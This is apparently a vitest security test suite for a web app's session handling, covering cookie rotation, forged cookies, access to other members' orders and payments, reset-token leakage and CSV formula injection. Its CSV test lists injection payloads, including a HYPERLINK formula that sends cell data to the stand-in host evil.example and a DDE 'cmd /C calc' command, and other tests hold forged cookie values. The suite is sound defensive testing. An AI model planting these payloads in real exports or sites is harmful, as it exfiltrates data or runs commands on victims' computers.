/** Session security: stolen, planted and forged cookies, other members' data, reset tokens, and formulas in the CSV. */
import { createHmac } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SIGNATURE_FIELD } from "../../kit/visitors/form-signatures";
import type { Client } from "./client";
import { Target } from "./site";

let target: Target;
beforeAll(async () => {
  target = await Target.start({ LOG_LEVEL: "debug" });
});
afterAll(() => target.stop());

const membersOnly = ["/my-page/profile", "/my-page/history", "/my-page/history.csv", "/my-page/data.json"];
membersOnly.push("/my-page/ecommerce-history", "/store/products", "/support/requests", "/dao/members");

/** Returns a client with only this cookie, like a thief's. */
function withCookie(value: string, name = "soria"): Client {
  const client = target.client();
  client.jar.set(name, value);
  return client;
}

const cookieOf = (client: Client) => client.jar.get("soria") ?? "";
/** Returns the guest cookie of a browser without a session. */
const noteOf = (client: Client) => client.jar.get("soria-guest") ?? "";

async function isSignedIn(cookie: string, name?: string): Promise<boolean> {
  const statuses: number[] = [];
  for (const path of membersOnly) {
    const { status, headers } = await withCookie(cookie, name).get(path);
    if (status === 303) expect(headers.location, path).toMatch(/^\/sign-in/);
    statuses.push(status);
  }
  const known = new Set(statuses);
  expect(known.size, `${statuses.join()}: all of it, or nothing`).toBe(1);
  return known.has(200);
}

let addresses = 0;

/** Returns a visitor who is not signed in but has a session, because a sign-up is in progress. */
async function visitor(): Promise<Client> {
  const client = target.client();
  const email = `sessions-${Date.now()}-${(addresses += 1)}@soria.test`;
  await client.post("/sign-up", { intent: "send-code", email });
  expect(cookieOf(client)).not.toBe("");
  return client;
}

/** Returns a guest with a message: without a session, with a guest cookie. */
async function guest(): Promise<Client> {
  const client = target.client();
  await client.get("/change-password");
  expect([noteOf(client) !== "", cookieOf(client)]).toEqual([true, ""]);
  return client;
}

describe("an old cookie", () => {
  it("is worth nothing after sign-in, and the one before is no member's", async () => {
    const { email } = await target.sandbox.makeMember();
    const client = await visitor();
    const planted = cookieOf(client);
    await client.signIn(email);
    expect(cookieOf(client)).not.toBe(planted);
    expect(await isSignedIn(cookieOf(client))).toBe(true);
    expect(await isSignedIn(planted)).toBe(false);
    // Signing in again creates a new session and ends the previous one.
    const first = cookieOf(client);
    await client.signIn(email);
    expect(cookieOf(client)).not.toBe(first);
    expect(await isSignedIn(first)).toBe(false);
  });

  it("of a guest is worth nothing after sign-in", async () => {
    const { email } = await target.sandbox.makeMember();
    const client = await guest();
    const planted = noteOf(client);
    await client.signIn(email);
    expect(await isSignedIn(cookieOf(client))).toBe(true);
    expect([noteOf(client), cookieOf(client).includes(planted)]).toEqual(["", false]);
    for (const name of ["soria-guest", "soria"]) expect(await isSignedIn(planted, name), name).toBe(false);
  });

  it("is worth nothing after sign-out", async () => {
    const { client } = await target.member();
    const old = cookieOf(client);
    expect(await isSignedIn(old)).toBe(true);
    await client.post("/sign-out", {});
    expect(await isSignedIn(old)).toBe(false);
  });

  it("is worth nothing after a change of password, here and elsewhere", async () => {
    const { client, member } = await target.member();
    const elsewhere = target.client();
    await elsewhere.signIn(member.email);
    const [old, other] = [cookieOf(client), cookieOf(elsewhere)];
    const newPassword = "Kumo-2025?";
    const fields = {
      intent: "password",
      oldPassword: member.password,
      newPassword,
      newPasswordConfirm: newPassword,
    };
    expect((await client.post("/my-page/profile", fields)).status).toBe(303);
    expect(cookieOf(client)).not.toBe(old);
    expect(await isSignedIn(cookieOf(client))).toBe(true);
    expect(await isSignedIn(old)).toBe(false);
    expect(await isSignedIn(other)).toBe(false);
  });

  it("is worth nothing after leaving", async () => {
    const { client, member } = await target.member();
    const elsewhere = target.client();
    await elsewhere.signIn(member.email);
    const old = cookieOf(client);
    expect((await client.post("/my-page/terminate", { confirm: "on" })).status).toBe(303);
    for (const cookie of [old, cookieOf(client), cookieOf(elsewhere)])
      expect(await isSignedIn(cookie)).toBe(false);
  });
});

describe("a cookie that was made up", () => {
  it("does not sign in, and its id is never adopted", async () => {
    const { client, member } = await target.member();
    const good = decodeURIComponent(cookieOf(client));
    const [value = "", signature = ""] = [
      good.slice(0, good.lastIndexOf(".")),
      good.slice(good.lastIndexOf(".") + 1),
    ];
    const id = Buffer.from(value, "base64").toString();
    const madeUp = Buffer.from(JSON.stringify("A".repeat(43))).toString("base64");
    const signed = (text: string, secret: string) =>
      `${text}.${createHmac("sha256", secret).update(text).digest("base64").replace(/=+$/, "")}`;
    const cookies = [
      "",
      "x",
      value,
      `${value}.`,
      `${value}.${"A".repeat(signature.length)}`,
      `${value}.${signature.slice(0, -2)}`,
      `${value}.${signature}x`,
      `${madeUp}.${signature}`,
      signed(value, ""),
      signed(value, "secret"),
      signed(madeUp, "undefined"),
      `${Buffer.from(id.toLowerCase()).toString("base64")}.${signature}`,
      `${Buffer.from('{"user":{"id":1},"tokens":{}}').toString("base64")}.${signature}`,
      Buffer.from("null").toString("base64"),
      "__proto__",
      "%00",
      "%E0%A4%A",
      "a".repeat(4000),
      `${"e30.".repeat(500)}`,
    ].map((cookie) => (cookie.includes("%") ? cookie : encodeURIComponent(cookie)));
    for (const cookie of cookies) {
      expect(await isSignedIn(cookie), cookie.slice(0, 80)).toBe(false);
      const planted = withCookie(cookie);
      await planted.signIn(member.email);
      expect(cookieOf(planted)).not.toBe(cookie);
    }
    const note = {
      id: JSON.parse(id) as string,
      until: Date.now() + 60_000,
      data: { user: { id: 1 }, tokens: {} },
    };
    const notes = [good, value, Buffer.from(JSON.stringify(note)).toString("base64url")];
    for (const made of [...cookies, ...notes]) {
      expect(await isSignedIn(encodeURIComponent(made), "soria-guest"), made.slice(0, 80)).toBe(false);
    }
    expect(await isSignedIn(cookieOf(client))).toBe(true);
    console.log(`made-up cookies: ${2 * cookies.length + notes.length}, none taken`);
  });

  it("beside a valid cookie, does not decide alone who is signed in", async () => {
    const { client } = await target.member();
    const planted = cookieOf(await visitor());
    for (const both of [
      `soria=${planted}; soria=${cookieOf(client)}`,
      `soria=x; soria=${cookieOf(client)}`,
    ]) {
      const { status } = await target.client().get("/my-page/profile", { Cookie: both });
      expect([200, 303]).toContain(status);
    }
  });
});

describe("what belongs to another member", () => {
  it("is answered 404: orders, inquiries, replies, attachments, payments", async () => {
    const balances = { soria: 1000 };
    const owner = await target.member({ orders: 2, balances, inquiries: [{ subject: "only-mine-7f3" }] });
    const other = await target.member({ orders: 1, inquiries: [{}] });
    const [publicId = ""] = owner.member.inquiries;
    const list = await owner.client.get("/my-page/ecommerce-history");
    const [order = ""] = /ORDER-[\d-]+/.exec(list.text) ?? [];
    expect(order).not.toBe("");
    const attachment = await owner.client.attach();

    const addresses = [
      `/my-page/ecommerce-history/${order}`,
      `/support/inquiries/${publicId}`,
      `/support/requests/${publicId}`,
      `/support/inquiry/attachment?id=${attachment}`,
    ];
    const routes: Record<string, string> = {
      [`/my-page/ecommerce-history/${order}`]: "routes/my-page/order/route",
      [`/support/inquiries/${publicId}`]: "routes/support/conversation/route",
    };
    let tried = 0;
    for (const path of addresses) {
      expect((await owner.client.get(path)).status, `its owner: ${path}`).toBe(200);
      const asked = [path, ...(routes[path] ? [`${path}?_data=${encodeURIComponent(routes[path])}`] : [])];
      for (const address of asked) {
        const foreign = await other.client.get(address);
        tried += 1;
        expect([404, 303], address).toContain(foreign.status);
        expect(foreign.text).not.toContain("only-mine-7f3");
        const guest = await target.client().get(address);
        tried += 1;
        expect(guest.status, address).toBeLessThan(500);
        expect(guest.text).not.toContain("only-mine-7f3");
      }
    }
    // With the signature of the other member's own form.
    const signature =
      (await other.client.signatureFor(`/support/inquiries/${other.member.inquiries[0]}`)) ?? "";
    expect(signature).not.toBe("");
    const calls = await target.callsDuring(async () => {
      for (const path of [`/support/inquiries/${publicId}`, `/support/requests/${publicId}`]) {
        const fields = { confirmed: "yes", content: "I am not the owner.", [SIGNATURE_FIELD]: signature };
        const reply = await other.client.post(path, fields);
        tried += 1;
        expect([303, 400, 404]).toContain(reply.status);
      }
    });
    expect(Object.keys(calls)).not.toContain(`POST /api/support/inquiries/${owner.member.inquiries[0]}`);
    const thread = await owner.client.get(`/support/inquiries/${publicId}`);
    expect(thread.text).not.toContain("I am not the owner.");

    // Guessed transactions, and the owner's order number.
    for (const transaction of ["1", "0", "-1", "TX-1", order]) {
      for (const path of ["/store/products/complete", "/store/products/complete/begin"]) {
        const response = await other.client.post(path, { intent: "check", purchase: transaction });
        tried += 1;
        expect(response.status, path).toBeLessThan(500);
        expect(response.text).not.toContain("client_secret");
      }
      for (const name of ["purchase", "transaction"]) {
        const path = `/store/products/complete?${name}=${transaction}`;
        const { headers, status } = await other.client.get(path);
        tried += 1;
        expect([status, headers.location]).toEqual([404, undefined]);
      }
    }
    console.log(`other members' data: ${tried} requests, nothing found`);
  });

  it("a payment that is under way is not shown, begun, captured or given up by another", async () => {
    const owner = await target.member();
    const other = await target.member();
    const purchase = await paymentOf(owner.client);
    const path = `/store/products/complete?purchase=${purchase}`;
    expect((await owner.client.get(path)).status).toBe(200);
    expect((await other.client.get(path)).status).toBe(404);
    // With the signature of the other member's own form.
    const own = await paymentOf(other.client);
    const signature = (await other.client.signatureFor("/store/products/complete", "check", own)) ?? "";
    expect(signature).not.toBe("");
    const intents = ["check", "drop", "pay", "say-taken", "say-not-taken", "say-refunded", ""];
    const calls = await target.callsDuring(async () => {
      for (const intent of intents) {
        for (const at of ["/store/products/complete/begin", "/store/products/complete", path]) {
          const response = await other.client.post(at, {
            intent,
            purchase,
            script: "ready",
            [SIGNATURE_FIELD]: signature,
          });
          expect(response.status).toBeLessThan(500);
          expect(response.text).not.toMatch(/clientSecret|_secret_/);
        }
      }
    });
    expect(Object.keys(calls).filter((call) => /POST|DELETE|PATCH/.test(call))).toEqual([]);
    expect((await owner.client.get(path)).status).toBe(200);
  });
});

/**
 * Starts a card payment, as the item page's script does.
 * @returns the key of the purchase
 */
async function paymentOf(client: Client): Promise<string> {
  const data = `_data=${encodeURIComponent("routes/store/product/route")}`;
  for (let id = 1; id < 40; id += 1) {
    const { text } = await client.get(`/store/products/${id}`);
    const paymentType = /name="paymentType"[^>]*value="([^"]*)"/.exec(text)?.[1] ?? "STRIPE";
    const fields = { intent: "buy", quantity: "1", paymentType, confirm: "on", script: "ready" };
    const response = await client.post(`/store/products/${id}?${data}`, fields);
    const payment = /"payment":\{.*?"key":"([^"]+)"/.exec(response.text)?.[1];
    if (payment) return payment;
  }
  throw new Error("No item is paid by card");
}

it("a reset token is in no answer, log, address or header, whatever becomes of it", async () => {
  const member = await target.sandbox.makeMember();
  const client = target.client();
  await client.post("/find-password", { intent: "send", email: member.email });
  const [mail] = await target.sandbox.mail(member.email);
  const link = new URL(mail?.link ?? "");
  const token = link.searchParams.get("token") ?? "";
  expect(token.length).toBeGreaterThan(20);
  let received = "";
  const walk = async (path: string, follow = true): Promise<void> => {
    const { status, headers, text } = await client.get(path);
    received += JSON.stringify(headers) + text;
    if (follow && status >= 300 && status < 400) await walk(String(headers.location));
  };
  await walk(link.pathname + link.search);
  // Truncated as by mail programs, and on paths where it does not belong.
  for (const path of [
    `/wpdnif?token=${token.slice(0, -3)}`,
    `/wpdnif?token=${token}&token=x`,
    `/wpdnif/?token=${token}`,
    `/change-password?token=${token}`,
    `/sign-in?token=${token}`,
    `/nowhere?token=${token}`,
    `/wpdnif?_data=${encodeURIComponent("routes/account/reset-link/route")}&token=${token}`,
  ]) {
    const { status, headers, text } = await client.get(path);
    const location = String(headers.location ?? headers["x-remix-redirect"] ?? "");
    expect(status).toBeLessThan(500);
    // The redirect to the canonical path is the only one with the token: its target is the link itself.
    if (status === 308)
      expect([path, location]).toEqual([`/wpdnif/?token=${token}`, `/wpdnif?token=${token}`]);
    else expect(location).not.toContain(token);
    // Pages repeat their own URL in links to other languages, but the reset page has none.
    if (path.startsWith("/wpdnif")) received += text;
  }
  expect((await client.get(link.pathname + link.search)).headers["referrer-policy"]).toBe("no-referrer");
  const page = await client.get("/change-password");
  received += page.text;
  const password = "Lantern-7!";
  await client.post("/change-password", { password, passwordConfirm: password });
  await client.get("/change-password/complete");
  expect(received).not.toContain(token.slice(0, -3));
  const log = target.log + (target.running.sandbox?.output() ?? "");
  expect(log).not.toContain(token.slice(0, 40));
  expect(log).not.toContain(token.slice(-20));
  expect(log).not.toContain(password);
});

it("the CSV holds no cell that a spreadsheet would work out", async () => {
  const { client, member } = await target.member({ history: 1 });
  const formulas = [
    "=1+1",
    "+1",
    "-1+1|cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
  ];
  formulas.push(
    `=HYPERLINK("http://evil.example?"&A1)`,
    `=cmd|' /C calc'!A0`,
    `"=1"`,
    `a","=1`,
    `a\r\n=1,=2`,
    "\u200b=1",
    "\ufeff=1",
  );
  formulas.push("%0A=1", "=DDE(1)", ";=1", "|=1", "'=1", "\u00a0=1", "\v=1", "\u0000=1");
  const items = formulas.map((web_note, id) => ({
    ...{ id, created_at: "2026-11-20T15:00:00Z", currency_type: "soria", type: "REWARD" },
    ...{ change_amount: 1, net_amount: 1, web_note },
  }));
  const data = { page: 1, page_count: 1, stats: { total: items.length }, items };
  await target.sandbox.faults([
    { path: "/api/users/me/history", member: member.id, body: { result: 1, message: "", data } },
  ]);
  const { status, text, headers } = await client.get("/my-page/history.csv");
  await target.sandbox.faults([]);
  expect(status).toBe(200);
  expect(headers["content-disposition"]).toMatch(/^attachment/);
  expect(headers["content-type"]).toMatch(/^text\/csv/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  const cells = cellsOf(text.replace(/^\ufeff/, ""));
  expect(cells).toHaveLength(items.length + 1);
  const notes = cells.slice(1).map((row) => row[5] ?? "");
  for (const row of cells) expect(row).toHaveLength(6);
  // Characters that spreadsheets skip before a formula.
  const active = notes.filter((note) => /^[\s\p{Cc}\p{Cf}]*[=+@＝＋＠－-]/u.test(note));
  console.log(`CSV: ${formulas.length} formulas, ${active.length} active`);
  expect(active).toEqual([]);
});

/** Parses CSV (RFC 4180). */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    row.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === ",") continue;
    if (row.length > 1) rows.push(row);
    row = [];
  }
  return rows;
}
